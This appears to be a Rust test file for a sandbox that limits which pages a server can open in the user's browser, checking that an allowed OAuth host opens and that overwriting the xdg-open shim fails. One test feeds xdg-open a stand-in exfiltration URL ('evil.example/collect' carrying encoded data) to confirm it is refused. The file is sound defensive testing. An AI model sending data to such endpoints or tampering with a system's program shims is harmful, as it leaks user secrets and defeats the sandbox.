//! Pages that a server wants to be opened in the user's browser.

use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

use serde_json::json;

use super::{BACKENDS, profile, session};
use crate::support::{World, wait_until};

#[test]
fn a_page_of_a_granted_host_is_opened_outside_and_no_other() {
    for backend in BACKENDS {
        let world = World::new();
        profile(&world, "[net]\nopen = [{ host = \"login.example.org\", reason = \"OAuth\" }]");
        let opened = world.root().join("opened");
        let script = format!("#!/bin/sh\nprintf '%s\\n' \"$@\" >>{}\n", opened.display());
        let browser = world.write("browser", &script);
        std::fs::set_permissions(&browser, std::fs::Permissions::from_mode(0o755)).unwrap();
        let good = "https://login.example.org/authorize?state=abc&redirect_uri=http%3A%2F%2Flocalhost%3A1%2F";
        let bad = "https://evil.example/collect?data=c2VjcmV0";
        let python = "import sys, webbrowser; print(webbrowser.open(sys.argv[1]))";
        let calls = [
            ("run", json!({ "argv": ["xdg-open", bad] })),
            ("run", json!({ "argv": ["xdg-open", good] })),
            ("run", json!({ "argv": ["python3", "-c", python, good] })),
        ];
        let env = [("BROWSER", browser.to_str().unwrap())];
        let session = session(&world, backend, &env, &calls);
        assert!(
            session.answers[..2].iter().all(|answer| answer.starts_with("0 ")),
            "{backend}: {session:#?}"
        );
        let read = || std::fs::read_to_string(&opened).unwrap_or_else(|_| String::new());
        assert!(wait_until(Duration::from_secs(10), || read().lines().count() == 2), "{}", read());
        assert_eq!(read(), format!("{good}\n{good}\n"), "{backend}");
        let events = session.of("browser");
        assert_eq!(events[0]["outcome"], "refused");
        assert_eq!(events[0]["page"], "https://evil.example/collect");
        assert_eq!(events[1]["outcome"], "opened");
        assert_eq!(events[1]["page"], "https://login.example.org/authorize");
        // It may have been read just after the call was answered, but never as another call's.
        let call = &events[1]["during"]["calls"][0]["id"];
        assert!(call.is_null() || call == "11", "{call}");
        let all = format!("{:?}{}", session.events, session.stderr);
        assert!(!all.contains("c2VjcmV0") && !all.contains("state=abc"), "a query is on record");
    }
}

#[test]
fn the_server_cannot_change_what_its_programs_call() {
    for backend in BACKENDS {
        let world = World::new();
        profile(&world, "");
        let write = "import os, shutil; path = shutil.which('xdg-open'); print(path); open(path, 'w')";
        let session = session(&world, backend, &[], &[("run", json!({ "argv": ["python3", "-c", write] }))]);
        let answer = &session.answers[0];
        assert!(answer.contains("/shim/xdg-open"), "{backend}: {answer}");
        assert!(answer.contains("PermissionError") || answer.contains("Read-only"), "{backend}: {answer}");
    }
}
